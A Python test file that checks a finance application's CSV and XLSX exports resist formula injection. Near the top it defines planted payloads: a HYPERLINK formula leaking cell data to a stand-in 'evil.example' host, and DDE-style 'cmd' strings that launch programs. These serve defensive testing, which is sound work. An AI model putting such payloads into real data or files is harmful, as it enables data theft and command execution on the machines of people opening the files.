"""Every CSV and XLSX the project hands out, walked with text a party controls planted in it: an
order id, a payee's and a product's name, a ledger memo, a reconciliation key, each starting with
a formula sign. No cell of any export may start with one (a plain number such as "-5.00" is data),
and no XLSX cell may be a formula.

The exports are discovered, not listed: every API operation whose response is a file or that takes
`fmt`/`export`, and every `export_*` management command. A new export makes
`test_every_export_is_walked` fail until it is seeded and downloaded here; a module that writes CSV
or XLSX without `shuxuan.common.spreadsheets` makes `test_only_the_spreadsheet_helper_writes_files`
fail.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command, get_commands
from drf_spectacular.generators import SchemaGenerator
from openpyxl import load_workbook
from rest_framework.test import APIClient

from shuxuan.ledger.facade import AccountType, PostingSpec, account_get_or_create, entry_post
from shuxuan.orders.models import ImportBatch, RejectedRow
from shuxuan.parties.models import Role
from shuxuan.reconciliation.models import BillImport, ReconException
from shuxuan.settlement.models import Payee, Payout, Statement
from shuxuan.settlement.runs import run_create, run_execute
from shuxuan.settlement.tests.conftest import World, _today, world  # noqa: F401  (fixtures)
from shuxuan.settlement.tests.test_runs import CUTOFF, D1
from shuxuan.supply import services as supply
from shuxuan.testing.factories import UserFactory

ORDER_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
BRAND_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCT_NAME = "+cmd|' /C notepad'!A0"
MEMO = "-2+3+cmd|' /C calc'!A0"
RECON_KEY = "＝1+1"  # full-width equals sign
PLANTED = (ORDER_ID, BRAND_NAME, PRODUCT_NAME, MEMO, RECON_KEY)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
PERIOD = "2026-11"

# What each discovered export is downloaded as: (method, path) -> the query variants.
KNOWN_EXPORTS: dict[tuple[str, str], list[dict[str, str]]] = {
    ("get", "/api/ledger/accounts/{id}/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/ledger/trial-balance/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/orders/batches/{id}/rejected-rows/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/reconciliation/closes/report/"): [{"export": "xlsx", "period": PERIOD}],
    ("get", "/api/reconciliation/exceptions/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/reconciliation/imports/{id}/rejected-rows/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/settlement/payout-batches/{id}/file/"): [{}],
    ("get", "/api/settlement/problem-lines/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/settlement/runs/{id}/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/settlement/statements/{id}/download/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/supply/stock/export/"): [{"fmt": "csv"}, {"fmt": "xlsx"}],
    ("get", "/api/supply/report/export/"): [
        {"fmt": kind, "date_from": "2020-01-01", "date_to": "2099-12-31"} for kind in ("csv", "xlsx")
    ],
}
KNOWN_COMMANDS = {"export_statements"}
# File downloads that are not exports: they hand back a file a person uploaded, byte for byte.
NOT_EXPORTS = {
    ("get", "/api/reconciliation/exceptions/{id}/notes/{note_id}/attachment/"),  # evidence, as attached
}


def discovered_exports() -> set[tuple[str, str]]:
    """API operations that answer a file, or take the export format as a query parameter."""
    schema = SchemaGenerator().get_schema(request=None, public=True)
    found = set()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            types = {kind for response in operation.get("responses", {}).values() for kind in response.get("content", {})}
            params = {p["name"] for p in operation.get("parameters", []) if p.get("in") == "query"}
            if types - {"application/json"} or params & {"fmt", "export"}:
                found.add((method, path))
    return found


def test_every_export_is_walked() -> None:
    assert discovered_exports() - NOT_EXPORTS == set(KNOWN_EXPORTS)
    assert {name for name in get_commands() if name.startswith("export")} == KNOWN_COMMANDS


def test_only_the_spreadsheet_helper_writes_files() -> None:
    package = Path(__file__).resolve().parents[1] / "backend" / "shuxuan"
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["common/spreadsheets.py"]


def _seed(world: World) -> dict[str, int]:  # noqa: F811
    """Planted text in every export's data; returns the ids the export URLs need."""
    world.brand.name = BRAND_NAME
    world.brand.save(update_fields=["name"])
    # The second line's product has no SKU: it waits for review (the problem lines' export).
    world.import_lines([{**D1, "order_id": ORDER_ID}, {**D1, "order_id": ORDER_ID + "-2", "product_id": "unmapped"}])
    run = run_execute(run_id=run_create(cutoff=CUTOFF, actor=None).pk)
    statement = Statement.objects.get(run=run, organization=world.brand)
    Payee.objects.create(
        payee_kind="organization",
        organization=world.brand,
        bank_account_name=BRAND_NAME,
        bank_account_number="6222020402001234567",
        bank_name="中国工商银行宜宾分行",
    )
    finance = client_for(world.finance)
    assert finance.post(f"/api/settlement/statements/{statement.pk}/approve/").status_code == 200
    assert finance.post("/api/settlement/payouts/", {"statements": [statement.pk]}, format="json").status_code == 201
    batch = finance.post("/api/settlement/payout-batches/", {}, format="json").json()["id"]
    assert Payout.objects.filter(batch_id=batch).count() == 1

    cash = account_get_or_create(organization_id=world.operator.pk, type=AccountType.CASH)
    payable = account_get_or_create(organization_id=world.brand.pk, type=AccountType.PAYABLE_TO_PARTY)
    entry_post(
        idempotency_key="planted-memo",
        source_type="test.order_line",
        source_id=ORDER_ID,
        effective_date=date(2026, 11, 5),
        memo=MEMO,
        postings=[PostingSpec(account_id=cash.pk, amount=500), PostingSpec(account_id=payable.pk, amount=-500)],
        actor=world.finance,
    )

    clerk = UserFactory(organization=world.operator, roles=[Role.SUPPLY], username="op_supply_x")
    warehouse = supply.warehouse_create(actor=clerk, code="CD", name="成都双流仓", city="成都市", county="双流区")
    item = supply.stock_item_create(actor=clerk, sku_code="JIU-X", name=PRODUCT_NAME, brand=world.brand, unit="瓶")
    order = supply.purchase_order_create(
        actor=clerk,
        brand=world.brand,
        warehouse=warehouse,
        ownership="buy_out",
        lines=[supply.PurchaseLineInput(stock_item_id=item.pk, quantity=2, unit_price=12_850)],
    )
    order = supply.purchase_order_confirm(actor=clerk, order_id=order.pk)
    line = order.lines.get()
    supply.receipt_create(
        actor=clerk, order_id=order.pk, lines=[supply.ReceiptLineInput(purchase_order_line_id=line.pk, quantity=2)]
    )

    ReconException.objects.create(
        source="douyin",
        match_key=RECON_KEY,
        reason="amount_mismatch",
        period=PERIOD,
        last_period=PERIOD,
        difference_minor=-500,
    )
    bill = BillImport.objects.create(
        source="douyin", sha256="f" * 64, filename="bill.csv", rejected=[{"line": 2, "reason": RECON_KEY}]
    )
    imported = ImportBatch.objects.create(source="generic", file_name="orders.csv", sha256="e" * 64)
    RejectedRow.objects.create(batch=imported, line=2, reason=ORDER_ID)
    world.finance.roles = [Role.FINANCE, Role.SUPPLY]
    world.finance.save(update_fields=["roles"])
    ids = {"run": run.pk, "statement": statement.pk, "batch": batch, "account": payable.pk}
    return {**ids, "bill": bill.pk, "import": imported.pk}


def client_for(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def _url(path: str, ids: dict[str, int]) -> str:
    owner = {
        "/api/ledger/accounts/{id}/export/": "account",
        "/api/settlement/payout-batches/{id}/file/": "batch",
        "/api/settlement/runs/{id}/export/": "run",
        "/api/settlement/statements/{id}/download/": "statement",
        "/api/reconciliation/imports/{id}/rejected-rows/export/": "bill",
        "/api/orders/batches/{id}/rejected-rows/export/": "import",
    }
    return path.replace("{id}", str(ids[owner[path]])) if path in owner else path


def _cells(content: bytes, kind: str) -> list[Any]:
    if kind == "csv":
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells]


def _assert_inert(cells: list[Any], where: str) -> None:
    live = [
        cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
    ]
    assert live == [], where
    escaped = [cell[1:] for cell in cells if isinstance(cell, str) and cell.startswith("'")]
    assert any(cell.startswith(PLANTED) for cell in escaped), f"{where}: no planted text reached this export"


def _content(response: Any) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
def test_no_export_cell_can_run_as_a_formula(world: World, tmp_path: Path) -> None:  # noqa: F811
    ids = _seed(world)
    finance = client_for(world.finance)
    for (_method, path), variants in KNOWN_EXPORTS.items():
        for query in variants:
            kind = query.get("fmt") or query.get("export") or "csv"
            content = _content(finance.get(_url(path, ids), query))
            _assert_inert(_cells(content, kind), f"{path} {query}")
    for kind in ("csv", "xlsx"):
        out = tmp_path / f"run.{kind}"
        call_command("export_statements", "--run", str(ids["run"]), "--format", kind, "--out", str(out))
        _assert_inert(_cells(out.read_bytes(), kind), f"export_statements --format {kind}")
